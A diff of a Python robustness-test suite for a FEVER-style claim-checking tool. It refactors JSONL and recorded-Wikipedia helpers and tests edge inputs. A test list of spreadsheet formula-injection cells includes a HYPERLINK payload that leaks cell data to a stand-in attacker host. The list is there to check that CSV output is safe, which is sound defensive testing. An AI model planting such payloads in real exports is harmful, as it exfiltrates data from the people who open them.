@@ -32,7 +32,7 @@ from fever_core.corpus.build import STORE_FILE, corpus_dir
 from fever_core.corpus.sources.wikipedia_api import MAX_LEAD_CHARS
 from fever_core.evaluation.batch import FORMULA_STARTS
 from fever_core.retrieval import dense as dense_module
-from tests.conftest import RECORDED_WIKIPEDIA, local_api
+from tests.conftest import local_api, recorded_answer, write_jsonl
 
 CLAIM = "Marie Curie won two Nobel Prizes."
 HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1, "click")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1",
@@ -86,6 +86,8 @@ def read_only(folder: Path) -> Iterator[Path]:
 
 
 def _mount(args: list[str]) -> None:
+    if shutil.which("mount") is None:
+        raise PermissionError("can't mount: there is no mount command")
     done = subprocess.run(["mount", *args], capture_output=True, text=True, check=False)
     if done.returncode:
         raise PermissionError(f"can't mount ({done.stderr.strip() or 'mount failed'}): needs root with CAP_SYS_ADMIN")
@@ -182,19 +184,13 @@ def _judge(case: str, ran: Ran, expected: str, names: str = "", problem: str = "
     return CaseOutcome(case, expected, happened, round(ran.seconds, 1), problem, ran.code is None, figures=figures)
 
 
-def _write_pages(path: Path, records: list[dict]) -> Path:
-    path.write_text("".join(json.dumps(record) + "\n" for record in records), encoding="utf-8")
-    return path
-
-
 # -- the cases -------------------------------------------------------------------------------------------------
 
 
 def batch_with_surrogates_and_formulas(ctx: Context) -> CaseOutcome:
     listed = [{"claim": "Marie Curie won two Nobel \ud800Prizes."}, *({"claim": cell} for cell in HOSTILE_CELLS),
               {"claim": CLAIM, "id": "=1+1"}]
-    claims = ctx.workdir / "claims.jsonl"
-    claims.write_text("".join(json.dumps(record) + "\n" for record in listed), encoding="utf-8")  # "\ud800" escaped
+    claims = write_jsonl(ctx.workdir / "claims.jsonl", listed)  # "\ud800" as JSON escapes it
     out = ctx.workdir / "results.csv"
     data, check = ctx.check_options()
     ran = run_cli([*data, "check-batch", str(claims), *check, "--out", str(out)])
@@ -305,7 +301,7 @@ def long_corpus_name(ctx: Context) -> CaseOutcome:
 
 
 def huge_line_number_in_pages(ctx: Context) -> CaseOutcome:
-    pages = _write_pages(ctx.workdir / "huge-line.jsonl", [*TINY_PAGES[:2], {"id": "Huge", "lines": f"{10**20}\tHuge ."}])
+    pages = write_jsonl(ctx.workdir / "huge-line.jsonl", [*TINY_PAGES[:2], {"id": "Huge", "lines": f"{10**20}\tHuge ."}])
     return _build_case(ctx, "a FEVER page's line number 10^20",
                        lambda d: ["corpus", "build", "probe", "--source", f"fever:{pages}"], lambda d: f"{pages}:3")
 
@@ -411,20 +407,13 @@ def _live_case(ctx: Context, case: str, answer: Callable[[dict[str, str]], bytes
     return _judge(case, ran, "answer", problem=problem, figures=f"{len(running)} calls left running")
 
 
-def _recorded(query: dict[str, str]) -> dict:
-    if query.get("list") == "search":
-        return RECORDED_WIKIPEDIA["search"].get(query.get("srsearch"), RECORDED_WIKIPEDIA["no_results"])
-    page = RECORDED_WIKIPEDIA["pages"].get(query.get("titles"), {}).get(query.get("prop"))
-    return page or RECORDED_WIKIPEDIA["missing"]
-
-
 def endless_continue(ctx: Context) -> CaseOutcome:
     def answer(query: dict[str, str]) -> bytes:
         if query.get("prop") == "links":
             return json.dumps({"continue": {"plcontinue": f"974|0|{time.monotonic()}", "continue": "||"},
                                "query": {"pages": {"974": {"pageid": 974, "ns": 0, "title": query.get("titles"),
                                                            "links": [{"ns": 0, "title": "Charles Babbage"}]}}}}).encode()
-        return json.dumps(_recorded(query)).encode()
+        return json.dumps(recorded_answer(query)).encode()
 
     return _live_case(ctx, "Wikipedia: links that never stop (continue)", answer)
 
@@ -433,11 +422,10 @@ def huge_lead(ctx: Context) -> CaseOutcome:
     lead = ("Ada Lovelace was an English mathematician. " * 250_000)[:10_000_000]
 
     def answer(query: dict[str, str]) -> bytes:
-        found = _recorded(query)
-        if query.get("prop") == "extracts" and "query" in found:
-            found = json.loads(json.dumps(found))
+        found = recorded_answer(query)
+        if query.get("prop") == "extracts":
             for page in found["query"]["pages"].values():
-                page["extract"] = lead
+                page["extract"] = lead if "missing" not in page else ""
         return json.dumps(found).encode()
 
     def kept_cut(data_dir: Path) -> str:
@@ -453,7 +441,7 @@ def huge_lead(ctx: Context) -> CaseOutcome:
 
 def surrogate_search(ctx: Context) -> CaseOutcome:
     def answer(query: dict[str, str]) -> bytes:
-        found = json.loads(json.dumps(_recorded(query)))
+        found = recorded_answer(query)
         if query.get("list") == "search":
             for hit in found.get("query", {}).get("search", []):
                 hit["title"] = hit["title"][:3] + "\ud800" + hit["title"][3:]
@@ -536,7 +524,7 @@ def run(data_dir: Path, corpus: str, model: str, workdir: Path, keys_corpus: tup
     name); ``kill``: run the killed batch too (a child process that loads the models)."""
     workdir = Path(workdir)
     workdir.mkdir(parents=True, exist_ok=True)
-    pages = _write_pages(workdir / "pages.jsonl", TINY_PAGES)
+    pages = write_jsonl(workdir / "pages.jsonl", TINY_PAGES)
 
     def context(name: str) -> Context:
         folder = workdir / name
